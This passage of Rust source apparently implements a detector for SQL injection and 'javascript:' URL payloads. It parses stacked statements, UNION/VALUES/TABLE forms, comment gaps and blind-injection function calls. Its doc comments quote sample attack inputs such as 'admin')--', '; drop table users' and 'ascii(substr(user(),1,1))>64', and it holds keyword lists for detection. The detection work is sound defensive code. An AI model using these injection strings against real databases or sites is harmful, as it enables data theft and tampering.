            matches!(skip(&argument[len..], b" ").first(), Some(b',' | b')'))
        }) || matches!(argument.first(), Some(b'\'' | b'"' | b'@' | b'('))
            || (!name.is_empty() && skip(after_name, b" ").starts_with(b"("))
    };
    if !starts_as_code(window) {
        return false;
    }
    // The arguments after it, at the commas outside parentheses and strings, up to the `)` that closes the call.
    let (mut depth, mut quote) = (0usize, None);
    for (i, &b) in window.iter().enumerate() {
        match (quote, b) {
            (Some(q), _) if b == q => quote = None,
            (Some(_), _) => {}
            (None, b'\'' | b'"') => quote = Some(b),
            (None, b'(') => depth += 1,
            (None, b')') if depth == 0 => return true,
            (None, b')') => depth -= 1,
            (None, b',') if depth == 0 && !starts_as_code(&window[i + 1..]) => return false,
            _ => {}
        }
    }
    true
}

/// `text` past its leading bytes that are in `over`.
fn skip<'a>(text: &'a [u8], over: &[u8]) -> &'a [u8] {
    let n = text.iter().take_while(|b| over.contains(b)).count();
    &text[n..]
}

/// Whether `text` is MySQL 8's `table t` statement (`union table users`, the whole table as a `select *` reads
/// it): `table`, a name and then the text's end, a comment, a `)`, or `order by`/`limit` — "union table tennis
/// club" goes on with words, "the union table up; see you" with a `;`.
fn table_statement(text: &[u8]) -> bool {
    let Some(rest) = text.strip_prefix(b"table") else {
        return false;
    };
    let gap = sql_gap(rest, false);
    let spaced = gap.len() < rest.len();
    let (name, after) = word(skip(gap, b"`"));
    let after = skip(after.strip_prefix(b".").map_or(after, |r| word(r).1), b" `");
    !name.is_empty()
        && spaced
        && ((ends_statement(after) && !after.starts_with(b";"))
            || after.starts_with(b")")
            || word(after).0 == b"order"
            || word(after).0 == b"limit")
}

/// Whether `text` is a `values` list (`union values (1,'a')`: PostgreSQL's and SQLite's constants, MySQL 8's
/// `values row(1,2)`): `values`, a gap, maybe `row`, and a `(` that a value opens — a number, a quote, a sign, `@`,
/// `(`, `~`, `null`, a call (`user()`), a typed string (`x'41'`, `e'…'`) or one of [`NILADIC`] before a `,`, `)`, `::` or `||`
/// (PostgreSQL's `union values (current_user)` reads the account). "The union values (and protects) its members"
/// puts a word there.
fn values_statement(text: &[u8]) -> bool {
    let Some(rest) = text.strip_prefix(b"values") else {
        return false;
    };
    let gap = sql_gap(rest, false);
    let gap = match word(gap) {
        (b"row", after) => sql_gap(after, false),
        _ => gap,
    };
    let Some(tuple) = gap.strip_prefix(b"(") else {
        return false;
    };
    let value = skip(tuple, b" ");
    let (name, after) = word(value);
    (gap.len() < rest.len() || rest.starts_with(b"("))
        && (matches!(
            value.first(),
            Some(b'0'..=b'9' | b'\'' | b'"' | b'-' | b'+' | b'@' | b'(' | b'~')
        ) || name == b"null"
            || (!name.is_empty() && skip(after, b" ").starts_with(b"("))
            || (matches!(name, b"x" | b"b" | b"n" | b"e") && after.starts_with(b"'"))
            || (NILADIC.contains(&name) && {
                // Before a `,` or `)`, or PostgreSQL's cast or the concatenation operator (`current_user::text`,
                // `current_user||''`), which prose does not write after a word.
                let next = skip(after, b" ");
                matches!(next.first(), Some(b',' | b')'))
                    || next.starts_with(b"::")
                    || next.starts_with(b"||")
            }))
}

/// SQL's values written without parentheses: PostgreSQL's and MySQL's niladic functions (`current_user`,
/// `session_user`, PostgreSQL's bare `user`) and the boolean constants.
const NILADIC: &[&[u8]] = &[
    b"current_user",
    b"session_user",
    b"system_user",
    b"user",
    b"current_role",
    b"current_schema",
    b"current_catalog",
    b"current_date",
    b"current_time",
    b"current_timestamp",
    b"localtime",
    b"localtimestamp",
    b"true",
    b"false",
];

/// How far [`sql_gap`] looks for a comment's end.
const GAP_WINDOW: usize = 1024;

/// `text` past what SQL reads as a gap between two tokens: blanks and control bytes, `(` when `parens`, closed
/// `/* … */` comments (a versioned one's markers only: its body is code), and `#` or `--` comments up to a line
/// end — read here, next to the token, so that a marker earlier in the text (inside a string literal: `'a--'`,
/// `'a#'`, `'a/*'`, or MySQL's arithmetic `1--1`) cannot hide a `union/**/select` by swallowing it in the
/// readings with comments removed. A comment whose end is not within [`GAP_WINDOW`] ends the gap; a line comment
/// running to the text's end leaves nothing after it.
fn sql_gap(mut text: &[u8], parens: bool) -> &[u8] {
    loop {
        text = match text {
            [b, rest @ ..] if *b <= b' ' || (parens && *b == b'(') => rest,
            [b'/', b'*', b'!', rest @ ..] | [b'/', b'*', b'm', b'!', rest @ ..] => {
                let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
                &rest[digits..]
            }
            [b'*', b'/', rest @ ..] => rest,
            [b'/', b'*', rest @ ..] => {
                let window = &rest[..rest.len().min(GAP_WINDOW)];
                match memchr::memmem::find(window, b"*/") {
                    Some(close) => &rest[close + 2..],
                    None => return text,
                }
            }
            [b'#', rest @ ..] | [b'-', b'-', rest @ ..] => {
                let window = &rest[..rest.len().min(GAP_WINDOW)];
                match memchr::memchr2(b'\n', b'\r', window) {
                    Some(end) => &rest[end..],
                    None if rest.len() <= GAP_WINDOW => &[],
                    None => return text,
                }
            }
            _ => return text,
        };
    }
}

/// `text` less its trailing bytes that are in `over`.
fn skip_back<'a>(text: &'a [u8], over: &[u8]) -> &'a [u8] {
    let n = text.iter().rev().take_while(|b| over.contains(b)).count();
    &text[..text.len() - n]
}

/// Where the name (letters, digits, `_`) that `text` ends with starts: `text.len()` when it ends with none.
fn name_start(text: &[u8]) -> usize {
    text.iter()
        .rposition(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
        .map_or(0, |i| i + 1)
}

/// Whether a scheme found after `before` (the text before collapsing) and followed by `after` stands where a reader
/// may take it for a URL: anywhere but after a word, or a word and `:`, and blanks (spaces or tabs) on the same
/// line — that is prose ("I read JavaScript: The Good Parts", "Book review: JavaScript: …"). So the value's start
/// (past control characters, which a URL parser strips), a line's start, and after `=`, a quote, a backtick, `(`,
/// `<`, `>`, `/`, `,`, `;`, `|` or `]:` with or without blanks: an attribute's value, CSS's `url(`, an autolink, an
/// XML element's text (`<link>javascript:…`), a CSV field, a Markdown link definition (`[x]: javascript:…`).
/// Where prose also puts it — a line's or the value's start (a list's entry, `- JavaScript: 5 years`, a title,
/// `JavaScript: The Definitive Guide`) or after blanks (`HTML & JavaScript: Web Design`, `HTML, CSS, JavaScript:
/// all the basics`) — it must also be followed by code ([`follows_as_code`]); glued to a `>`, `,`, `;`, `=`, a quote
/// … it always stands where a URL does.
fn url_position(before: &[u8], after: &[u8]) -> bool {
    let blanks = before
        .iter()
        .rev()
        .take_while(|&&b| matches!(b, b' ' | b'\t'))
        .count();
    let word = &before[..before.len() - blanks];
    let word = word.strip_suffix(b":").unwrap_or(word);
    let after_word = word
        .last()
        .is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80);
    let glued = blanks == 0 && !matches!(before.last(), None | Some(b'\n' | b'\r'));
    (blanks == 0 || !after_word) && (glued || follows_as_code(after))
}

/// Words that start a JavaScript expression, not a sentence's word (`javascript:void prompt(1)`).
const SCRIPT_WORDS: &[&[u8]] = &[
    b"void",
    b"new",
    b"typeof",
    b"delete",
    b"await",
    b"throw",
    b"return",
    b"let",
    b"var",
    b"const",
    b"if",
    b"for",
    b"while",
    b"do",
    b"with",
    b"try",
    b"function",
    b"async",
    b"class",
    b"import",
    b"this",
    b"top",
    b"self",
    b"window",
    b"document",
    b"location",
    b"yield",
    b"in",
];

/// Whether what follows a script scheme (`:` included) reads as code rather than words separated by blanks
/// ("JavaScript: 5 years", "JavaScript: The Good Parts"): its first word (past blanks; tabs and line breaks, which
/// a URL parser drops, are dropped) is a [`SCRIPT_WORDS`] one, or is not followed by blanks and another word —
/// `prompt(1)`, `alert``1```, `x.y`, `//evil`, `'…'`, a word at the end.
fn follows_as_code(after: &[u8]) -> bool {
    let after: Vec<u8> = after
        .iter()
        .copied()
        .filter(|b| !matches!(b, b'\t' | b'\n' | b'\r'))
        .take(256)
        .collect();
    let text = match std::str::from_utf8(&after) {
        Ok(text) => text,
        Err(error) => std::str::from_utf8(&after[..error.valid_up_to()]).unwrap_or_default(),
    };
    // A character outside ASCII continues the word unless it is punctuation JavaScript cannot parse there
    // ("all…", "ES2020…": a syntax error, so no script); its blanks and line terminators (U+2028, which make
    // `name\u{2028}prompt(1)` two statements) and letters do continue it.
    let is_word = |c: char| {
        c.is_ascii_alphanumeric()
            || matches!(c, '_' | '$')
            || (!c.is_ascii() && (c.is_alphanumeric() || c.is_whitespace() || c == '\u{feff}'))
    };
    let rest = text.trim_start_matches(' ');
    let first = rest.split(|c: char| !is_word(c)).next().unwrap_or("");
    if SCRIPT_WORDS.contains(&first.as_bytes()) {
        return true;
    }
    let rest = &rest[first.len()..];
    let next = rest.trim_start_matches(' ');
    let unparsable = rest
        .chars()
        .next()
        .is_some_and(|c| !c.is_ascii() && !is_word(c));
    !(unparsable || (next.len() < rest.len() && next.starts_with(is_word)))
}

/// Whether a function's arguments (the text after its `(`) read as code ([`reads_as_code`]).
fn arguments_read_as_code(name: &[u8], after: &[u8]) -> bool {
    match name {
        b"sleep" => {
            const UNITS: &[&[u8]] = &[
                b"h", b"hr", b"hrs", b"hour", b"hours", b"m", b"min", b"mins", b"minute",
                b"minutes", b"s", b"sec", b"secs", b"second", b"seconds", b"ms", b"day", b"days",
                b"week", b"weeks",
            ];
            let window = &after[..after.len().min(ARGUMENT_WINDOW)];
            let digits = window.iter().take_while(|b| b.is_ascii_digit()).count();
            let rest = &window[digits..];
            let rest = rest.strip_prefix(b" ").unwrap_or(rest);
            let unit = rest.iter().take_while(|b| b.is_ascii_alphabetic()).count();
            !(digits > 0 && rest.get(unit) == Some(&b')') && UNITS.contains(&&rest[..unit]))
        }
        // A random id's few bytes (`hex(randomblob(16))`, SQLite's idiom) cost nothing: only a blob of a million
        // bytes or more, or one sized by anything but digits, is a heavy query.
        b"randomblob" => {
            let after = skip(after, b" ");
            let digits = after
                .iter()
                .take(7)
                .take_while(|b| b.is_ascii_digit())
                .count();
            !(digits > 0 && digits <= 6 && skip(&after[digits..], b" ").starts_with(b")"))
        }
        b"benchmark" | b"get_lock" => {
            // Read twice, with quotes (a `')'` hides no parenthesis) and without (a quote inside a `#` comment
            // hides no comma): either finding a second argument reads as code.
            let second_argument = |quotes: bool| {
                let (mut depth, mut quote, mut escaped) = (0usize, None, false);
                for &b in after.iter().take(ARGUMENT_WINDOW) {
                    match (quote, b) {
                        _ if escaped => escaped = false,
                        (Some(_), b'\\') => escaped = true,
                        (Some(q), _) if b == q => quote = None,
                        (Some(_), _) => {}
                        (None, b'\'' | b'"') if quotes => quote = Some(b),
                        (None, b'(') => depth += 1,
                        (None, b')') if depth == 0 => return false,
                        (None, b')') => depth -= 1,
                        (None, b',') if depth == 0 => return true,
                        _ => {}
                    }
                }
                after.len() > ARGUMENT_WINDOW
            };
            second_argument(true) || second_argument(false)
        }
        _ => true,
    }
}

/// Objects `; drop` and `; alter` name (the object, not the verb, tells SQL from "drop me a line").
const SCHEMA_OBJECTS: &[&[u8]] = &[
    b"table",
    b"database",
    b"schema",
    b"view",
    b"user",
    b"login",
    b"role",
    b"procedure",
    b"proc",
    b"function",
    b"trigger",
    b"index",
    b"sequence",
    b"tablespace",
    b"event",
    b"server",
    b"temporary",
    b"system",
    b"session",
    b"instance",
    b"authorization",
];

/// Privileges and roles whose name after `; grant` makes it a grant whatever follows up to its `to`.
const PRIVILEGES: &[&[u8]] = &[
    b"all",
    b"select",
    b"insert",
    b"update",
    b"delete",
    b"references",
    b"trigger",
    b"truncate",
    b"usage",
    b"create",
    b"connect",
    b"temporary",
    b"temp",
    b"execute",
    b"exec",
    b"alter",
    b"drop",
    b"index",
    b"control",
    b"view",
    b"impersonate",
    b"super",
    b"file",
    b"process",
    b"reload",
    b"shutdown",
    b"replication",
    b"lock",
    b"event",
    b"show",
    b"proxy",
    b"dba",
    b"sysdba",
    b"resource",
    b"unlimited",
    b"administer",
    b"manage",
];

/// Privileges that start a grant which prose also starts ("grant read access to …"): read as one only in a grant
/// longer than [`STATEMENT_WINDOW`] (`grant maintain on table a, b, … to x`), which the window's `on` caught before.
const LONG_GRANT_PRIVILEGES: &[&[u8]] =
    &[b"set", b"maintain", b"read", b"write", b"debug", b"under"];

/// A statement stacked after a `;`, by the shape each verb takes in SQL rather than by the verb alone, which prose
/// writes ("Thanks; update me later", "patch db; shutdown at 5pm", "Step 3; insert into slot B"): `drop` and `alter`
/// name a schema object; `delete from`; `insert into` with `values`, `select`, `set`, `table` or `exec` before the
/// statement ends; `update` with a `set` and then an assignment ([`update_sets`]); `shutdown` ending the statement (or
/// `with nowait`); `exec` and `execute` calling something; `truncate table`, or `truncate` and one name ending the
/// statement; `grant` ([`grants`]); a user variable's assignment and a statement prepared from it; SQLite's
/// `attach … as`; `create` of a user, function, procedure, trigger or table ([`statement_starts`]).
fn stacked(text: &[u8]) -> bool {
    memchr::memchr_iter(b';', text).any(|at| {
        statement_starts(&text[at + 1..], false)
            || (breaks_out(&text[..at]) && stacked_select(&text[at + 1..]))
    }) || after_leading_numbers(text).any(|(end, _, _)| {
        // SQL Server runs statements that nothing but blanks separates: `id=1 drop table users`, after a number
        // the value starts with (a numeric injection). Read within a window: with no `;` to end them, these
        // readings must not each run to the text's end.
        let rest = &text[end..];
        let rest = &rest[..rest.len().min(STATEMENT_WINDOW)];
        sql_gap(rest, false).len() < rest.len() && statement_starts(rest, true)
    })
}

/// Whether what stands before a `;` ends an injected value (so a select after it is a statement of its own): the
/// value's start or `=`, a number, a quote or a `)` (`1;`, `x';`, `(1);`). Prose and instructions put a word there
/// ("Open Excel; select Options from File menu", a menu's item and its name).
fn breaks_out(before: &[u8]) -> bool {
    matches!(
        skip_back(before, b" ").last(),
        None | Some(b'0'..=b'9' | b'\'' | b'"' | b'`' | b')' | b'=')
    )
}

/// Whether `text` (after a `;`) is a select that reads a table (MySQL through a multi-statement API, SQL Server,
/// PostgreSQL run it): `select` and what [`reads_as_subquery`] reads as a stacked one.
fn stacked_select(text: &[u8]) -> bool {
    match word(sql_gap(text, false)) {
        (b"select", rest) => reads_as_subquery(rest, Select::Stacked),
        _ => false,
    }
}

/// Whether a user variable's assignment (`set @q = …`) assigns what SQL reads as a value: a number, a string, a hex or
/// bit literal (`0x…`, `x'…'`), another variable, a parenthesis (a subquery) or a call (`concat(…)`, `char(…)`,
/// `unhex(…)`). Chat's "Deploy done; set @oncall = bob for tonight" assigns a bare word, which to MySQL would be a
/// column of no table — and sets nothing a prepared statement could run; nor does a decimal number ("Tip; set @count
/// = 0": `prepare s from @count` is a syntax error), which a tutorial's text assigns — unless another assignment
/// follows it in the same `set` ([`another_assignment`]).
fn assigned_value(value: &[u8]) -> bool {
    let (name, after) = word(value);
    let number = skip(value, b"+-");
    let digits = number
        .iter()
        .take_while(|b| b.is_ascii_digit() || **b == b'.')
        .count();
    let decimal = digits > 0
        && word(&number[digits..]).0.is_empty()
        && !another_assignment(&number[digits..]);
    !decimal
        && matches!(
            value.first(),
            Some(b'0'..=b'9' | b'\'' | b'"' | b'(' | b'@' | b'-' | b'+' | b'.')
        )
        || (!name.is_empty() && (after.starts_with(b"'") || skip(after, b" ").starts_with(b"(")))
}

/// Whether `rest` (after a value in a `set`) goes on with another assignment: a `,` and a variable (`@q`,
/// `@@global.general_log`, `global general_log`, a system variable's bare name) then `=` or `:=`. MySQL's `set` takes
/// a list (`set @x = 0, global general_log = 1`) and runs each assignment as if it stood alone.
fn another_assignment(rest: &[u8]) -> bool {
    let Some(next) = sql_gap(rest, false).strip_prefix(b",") else {
        return false;
    };
    let (mut name, mut after) = word(skip(sql_gap(next, false), b"@"));
    if let Some(member) = after.strip_prefix(b".") {
        (name, after) = word(member);
    } else if matches!(
        name,
        b"global" | b"session" | b"local" | b"persist" | b"persist_only"
    ) {
        (name, after) = word(sql_gap(after, false));
    }
    let after = sql_gap(after, false);
    !name.is_empty() && (after.starts_with(b"=") || after.starts_with(b":="))
}

/// Whether a quote closed by one or more `)` is followed (after blanks) by a comment: `admin')--`, `admin') #`,
/// `x'))--`, which ends a login query written with parentheses (`WHERE (user = '…') AND (pass = '…')`) in every SQL
/// server, as `admin'--` ends one written without. The quote must end a string as SQL reads the text from inside
/// the query's string ([`closes_a_string`]): in `print('hi')` followed by a `# comment` line, the quote before `)`
/// opens a string (the query's string ends at the first), so the `#` is inside one.
fn comment_after_parenthesis(text: &[u8]) -> bool {
    let before_comment = |at: usize| {
        let rest = &text[at + 1..];
        let after = skip(rest, b") ");
        rest.first() == Some(&b')') && (after.starts_with(b"--") || after.starts_with(b"#"))
    };
    memchr::memchr2_iter(b'\'', b'"', text).any(before_comment)
        && [b'\'', b'"'].into_iter().any(|query_quote| {
            [true, false]
                .into_iter()
                .any(|escapes| closes_a_string(text, query_quote, escapes, before_comment))
        })
}

/// Whether a quote at which `wanted` holds ends a string, in SQL's reading of `text` from inside a string that
/// `query_quote` opened (where an injected value stands): a string or a `` ` `` name runs to its own quote (a
/// doubled quote ends and reopens it), and with `escapes` (MySQL's default) `\` makes the next byte part of it
/// (PostgreSQL's and SQL Server's strings have no escapes: both readings are made). One pass, without look-ahead
/// but for a word at the query's string's end: a quote there between a letter or digit and a letter that starts no
/// SQL keyword is an apostrophe (`it's`, `don't`, `O'Brien`), after which SQL reads a name glued to a string, a
/// syntax error in a condition — no injection, so that reading ends (`admin'or 1=1` is read on).
fn closes_a_string(
    text: &[u8],
    query_quote: u8,
    escapes: bool,
    wanted: impl Fn(usize) -> bool,
) -> bool {
    let mut open = Some(query_quote);
    let mut query_string = true;
    let mut i = 0;
    while i < text.len() {
        let b = text[i];
        match open {
            Some(_) if escapes && b == b'\\' => i += 1,
            Some(quote) if b == quote => {
                open = None;
                if std::mem::take(&mut query_string) && apostrophe(text, i) {
                    return false;
                }
                if wanted(i) {
                    return true;
                }
            }
            Some(_) => {}
            None if matches!(b, b'\'' | b'"' | b'`') => open = Some(b),
            None => {}
        }
        i += 1;
    }
    false
}

/// Whether the quote at `at` is an apostrophe inside a word ([`closes_a_string`]): a letter or digit before it, and
/// a letter after it that starts a word no SQL keyword is which may follow a string (`'x'or 1=1`, `'x'union`) in
/// any of the servers: SQLite's and PostgreSQL's operators too, as `admin'glob'*')--` is a login bypass in SQLite
/// (D1): `(user = 'admin') glob '*'` holds for every row.
fn apostrophe(text: &[u8], at: usize) -> bool {
    const AFTER_A_STRING: &[&[u8]] = &[
        b"and",
        b"or",
        b"xor",
        b"not",
        b"in",
        b"is",
        b"like",
        b"rlike",
        b"regexp",
        b"between",
        b"union",
        b"div",
        b"mod",
        b"collate",
        b"order",
        b"group",
        b"limit",
        b"having",
        b"into",
        b"then",
        b"else",
        b"end",
        b"when",
        b"escape",
        b"sounds",
        b"as",
        b"from",
        b"where",
        b"intersect",
        b"except",
        b"minus",
        b"procedure",
        b"for",
        b"lock",
        b"offset",
        b"fetch",
        // SQLite's and PostgreSQL's operators after a value: `'x'glob'*'`, `'x'match'y'`, `'x'isnull`,
        // `'x'notnull`, `'x'ilike'%'`, `'x'similar to'%'`, `'x'overlaps`, `'x'at time zone'utc'`; MySQL 8's `'x'member
        // of('[…]')`, `convert('x'using utf8)`; and what follows a value in a clause (`returning`, `asc`, `desc`,
        // `nulls`, `window`).
        b"glob",
        b"match",
        b"isnull",
        b"notnull",
        b"ilike",
        b"similar",
        b"overlaps",
        b"at",
        b"member",
        b"using",
        b"returning",
        b"asc",
        b"desc",
        b"nulls",
        b"window",
    ];
    let (after, _) = word(&text[at + 1..]);
    at > 0
        && text[at - 1].is_ascii_alphanumeric()
        && after.first().is_some_and(u8::is_ascii_alphabetic)
        && !AFTER_A_STRING.contains(&after)
}

/// SQL's functions that blind injection compares, reading data a character or a length at a time, or the server's
/// names and version: after a number a value starts with, a call of one compared is the injection's
/// (`id=1 and ascii(substr(user(),1,1))>64`, `id=1 and length(database())=8`).
const BLIND_FUNCTIONS: &[&[u8]] = &[
    b"ascii",
    b"ord",
    b"unicode",
    b"substr",
    b"substring",
    b"mid",
    b"left",
    b"right",
    b"length",
    b"len",
    b"char_length",
    b"character_length",
    b"octet_length",
    b"bit_length",
    b"datalength",
    b"hex",
    b"bin",
    b"conv",
    b"instr",
    b"locate",
    b"strcmp",
    b"lower",
    b"upper",
    b"if",
    // SQL Server's `if` as an expression (`id=1 and iif(1=1,1,0)=1`).
    b"iif",
    // MySQL's position of a string in a comma-separated list (`id=1 and find_in_set('r',user())`).
    b"find_in_set",
    b"ifnull",
    b"nullif",
    b"coalesce",
    b"count",
    b"version",
    b"user",
    b"database",
    b"schema",
    b"db_name",
    b"current_user",
    b"system_user",
    b"session_user",
    b"cast",
    b"convert",
    b"sqlite_version",
    // MySQL's pick of a set's or a list's members by a number, a condition's truth in sqlmap's probes
    // (`id=1 and make_set(1=1,5)`, `elt(ascii(…)>64,5)`).
    b"make_set",
    b"elt",
];

/// How far past a call's `(` its `)` and the calls it wraps are looked for, as every look-ahead here.
const CALL_WINDOW: usize = 1024;

/// A text's parentheses matched and its calls of [`BLIND_FUNCTIONS`] found, once per text when first asked: each
/// `=` or quote of the text asks where a call there closes and whether it wraps a blind function, and walking the
/// call's window from each (`=1 and f(((` repeated to 64 KiB) cost ~190 ms on the host.
struct Calls<'a> {
    text: &'a [u8],
    index: std::cell::OnceCell<CallIndex>,
}

struct CallIndex {
    /// Each `(`'s position and its `)`'s (`u32::MAX` when none closes it), in order.
    parens: Vec<(u32, u32)>,
    /// The `(` of each call of a blind function (its name maybe quoted and glued: `` `ascii`( ``), in order.
    blind: Vec<u32>,
    /// Each `=`, `<` and `>`, in order.
    compares: Vec<u32>,
    /// The `(` of each call of a function that reads the server's own data ([`SERVER_READS`]: `user(`,
    /// `database(`, `version(`), in order.
    reads: Vec<u32>,
    /// Where each server's variable (`@@version`'s `@@`) and each account named without parentheses
    /// (`current_user`, `session_user`, `system_user` as words) ends, by where it starts, in order: found once per
    /// text, not from each call that asks ([`Calls::reads_server`]).
    variables: Vec<(u32, u32)>,
}

/// Functions that return the server's own data — the account, the database, the version — which a blind probe reads
/// a character or a length at a time (`ascii(substr(user(),1,1))>64`, `length(database())>1`); no spreadsheet formula
/// or prose calls them.
const SERVER_READS: &[&[u8]] = &[
    b"user",
    b"current_user",
    b"session_user",
    b"system_user",
    b"database",
    b"schema",
    b"version",
    b"db_name",
    b"sqlite_version",
];

impl<'a> Calls<'a> {
    fn new(text: &'a [u8]) -> Self {
        Self {
            text,
            index: std::cell::OnceCell::new(),
        }
    }

    fn index(&self) -> &CallIndex {
        self.index.get_or_init(|| {
            let text = self.text;
            let (mut parens, mut blind, mut reads, mut open, mut compares) =
                (Vec::new(), Vec::new(), Vec::new(), Vec::new(), Vec::new());
            for (at, &b) in text.iter().enumerate() {
                count_reads!(CALL_READS, 1);
                match b {
                    b'(' => {
                        open.push(parens.len());
                        parens.push((at as u32, u32::MAX));
                        if blind_call_name(&text[..at]) {
                            blind.push(at as u32);
                        }
                        let before = skip_back(&text[..at], b" ");
                        let start = name_start(before);
                        // A method or a static call (`platform.version()`, PHP's `auth()->user()` and
                        // `Auth::user()`) is another language's: SQL writes none of `.`, `->` or `::` before a call.
                        // Blanks around the operator too (`$request-> user()`, `Auth :: user()`), but PostgreSQL's
                        // own schema qualifies its functions (`pg_catalog.version()`).
                        let qualifier = skip_back(&before[..start], b" ");
                        let method = (qualifier.ends_with(b".")
                            && !skip_back(&qualifier[..qualifier.len() - 1], b" ")
                                .ends_with(b"pg_catalog"))
                            || qualifier.ends_with(b"->")
                            || qualifier.ends_with(b"::");
                        if SERVER_READS.contains(&&before[start..]) && !method {
                            reads.push(at as u32);
                        }
                    }
                    b')' => {
                        if let Some(i) = open.pop() {
                            parens[i].1 = at as u32;
                        }
                    }
                    b'=' | b'<' | b'>' => compares.push(at as u32),
                    _ => {}
                }
            }
            let mut variables: Vec<(u32, u32)> = memchr::memmem::find_iter(text, b"@@")
                .map(|at| (at as u32, at as u32 + 2))
                .collect();
            for name in [&b"current_user"[..], b"session_user", b"system_user"] {
                let ident = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
                variables.extend(memchr::memmem::find_iter(text, name).filter_map(|at| {
                    let end = at + name.len();
                    let glued =
                        (at > 0 && ident(&text[at - 1])) || text.get(end).is_some_and(ident);
                    (!glued).then_some((at as u32, end as u32))
                }));
            }
            // `@@` and the names share no byte, so sorted by start they are sorted by end too.
            variables.sort_unstable();
            CallIndex {
                parens,
                blind,
                compares,
                reads,
                variables,
            }
        })
    }

    /// Where, in `suffix` (a suffix of the text), the `)` closing the `(` at `at` stands, if within [`CALL_WINDOW`].
    fn close(&self, suffix: &[u8], at: usize) -> Option<usize> {
        let base = self.text.len() - suffix.len();
        let close = self.matched(base + at)?;
        (close - (base + at) < CALL_WINDOW).then(|| close - base)
    }

    /// The `)` matching the `(` at `open` of the text, if any.
    fn matched(&self, open: usize) -> Option<usize> {
        let parens = &self.index().parens;
        let i = parens
            .binary_search_by_key(&open, |&(o, _)| o as usize)
            .ok()?;
        (parens[i].1 != u32::MAX).then(|| parens[i].1 as usize)
    }

    /// Whether the call whose `(` stands at `at` of `suffix` calls one of [`BLIND_FUNCTIONS`] within its parentheses
    /// (within [`CALL_WINDOW`] when they do not close there): a call wrapping one reads what it reads.
    fn wraps_blind(&self, suffix: &[u8], at: usize) -> bool {
        if suffix.get(at) != Some(&b'(') {
            return false;
        }
        let open = self.text.len() - suffix.len() + at;
        let end = self
            .matched(open)
            .map_or(open + CALL_WINDOW, |close| close.min(open + CALL_WINDOW));
        let blind = &self.index().blind;
        let first = blind.partition_point(|&b| b as usize <= open);
        blind.get(first).is_some_and(|&b| (b as usize) < end)
    }

    /// Whether the first of the arguments between the `(` at `open` and the `)` at `close` (of the text) — to the `,`
    /// outside its own calls' parentheses — is a comparison: the condition `if`, `iif`, `elt` and `make_set` pick by
    /// (`1=1,5`, `ascii(substr(user(),1,1))>64,1,0`, `(1=1),5`), or a predicate outside its calls (`user() like
    /// 'r%'`, `ascii(…) between 64 and 128`, `… in (97)`, `rlike`, `regexp`). The calls in it are stepped over by their matched
    /// parentheses, so each byte of a text is read at the level of one call only (`=elt(=elt(=elt(…)))`).
    fn picks_by_condition(&self, open: usize, close: usize) -> bool {
        let text = self.text;
        let (mut at, mut keyword) = (open + 1, false);
        while at < close {
            count_reads!(LINK_READS, 1);
            match text[at] {
                b'(' => at = self.matched(at).map_or(close, |end| end + 1),
                b',' => break,
                // A predicate's word outside the calls (`user() like 'r%'`, `ascii(…) between 64 and 128`,
                // `ascii(…) in (97)`, `user() regexp '^r'`), each word stepped over whole.
                b if b.is_ascii_alphabetic() => {
                    let (name, _) = word(&text[at..close]);
                    keyword |= !(text[at - 1].is_ascii_alphanumeric() || text[at - 1] == b'_')
                        && matches!(name, b"like" | b"rlike" | b"regexp" | b"between" | b"in");
                    count_reads!(LINK_READS, name.len());
                    at += name.len();
                }
                _ => at += 1,
            }
        }
        let compares = &self.index().compares;
        let first = compares.partition_point(|&c| (c as usize) <= open);
        keyword || compares.get(first).is_some_and(|&c| (c as usize) < at)
    }

    /// Whether the first call of one of [`BLIND_FUNCTIONS`] between the `(` at `open` and the `)` at `close` (of the
    /// text) wraps another (`ascii(substr(password,1,1))`, `length(hex(pw))`): a column read a character at a time.
    fn nested_blind(&self, open: usize, close: usize) -> bool {
        let blind = &self.index().blind;
        let first = blind.partition_point(|&b| b as usize <= open);
        let Some(&outer) = blind.get(first).filter(|&&b| (b as usize) < close) else {
            return false;
        };
        let end = self
            .matched(outer as usize)
            .map_or(close, |end| end.min(close));
        blind.get(first + 1).is_some_and(|&b| (b as usize) < end)
    }

    /// Whether the text between the `(` at `open` and the `)` at `close` (of the text) calls one of [`SERVER_READS`],
    /// reads a server's variable (`@@version`) or names the account without parentheses, as SQL's standard spells
    /// it and sqlmap's PostgreSQL and SQL Server probes do (`current_user`, `session_user`, `system_user`).
    fn reads_server(&self, open: usize, close: usize) -> bool {
        let index = self.index();
        let first = index.reads.partition_point(|&r| r as usize <= open);
        let variable = index
            .variables
            .partition_point(|&(start, _)| start as usize <= open);
        index
            .reads
            .get(first)
            .is_some_and(|&r| (r as usize) < close)
            || index
                .variables
                .get(variable)
                .is_some_and(|&(_, end)| end as usize <= close)
    }
}

/// Whether a value (the text's, or one after `=` that starts no comparison's operator, maybe after parentheses) is
/// by itself a blind probe, as sqlmap replaces a parameter with one: a call of one of [`BLIND_FUNCTIONS`] reading
/// the server's data ([`Calls::reads_server`]), compared with a literal or in a range, ending the statement maybe after
/// a chain of literals (`ascii(substr(user(),1,1))>64 and 1`, `length(database())>1`, `ord(mid(version(),1,1))>51`,
/// `length(database()) between 1 and 9`), or in parentheses multiplied by a number ([`multiplied`]:
/// `(ascii(substr(user(),1,1))>64)*5678`, as sqlmap's `(1234=1234)*5678` of two numbers). "ascii(art) > 64 and more"
/// and a spreadsheet's `=LEN(MID(A1,2,3))>1` read no server's data.
fn blind_value(text: &[u8], calls: &Calls<'_>) -> bool {
    value_starts(text).any(|start| {
        // sqlmap's `(1234=1234)*5678`: two glued number literals compared in parentheses, multiplied.
        let open = text.len() - skip(&text[start..], b" ").len();
        // The value itself, or one after a key's `=` (`id=`, `a[b]=`), as sqlmap replaces a parameter's value: a
        // spreadsheet's formula opens with an `=` no key stands before (`=(1=1)*1`, `"=(2>1)*10"`, where TRUE times a
        // number is that number), and code assigns with blanks around it (`ok = len(current_user()) > 0;`).
        let keyed = start == 0
            || (start >= 2
                && (text[start - 2].is_ascii_alphanumeric()
                    || matches!(text[start - 2], b'_' | b']')));
        if !keyed {
            return false;
        }
        if text.get(open) == Some(&b'(') {
            let number = |at: usize| {
                signed_operand(text, at, true).filter(|&(value, _, quoted)| {
                    !quoted && (number_len(value) == value.len() || compound_value(value).is_some())
                })
            };
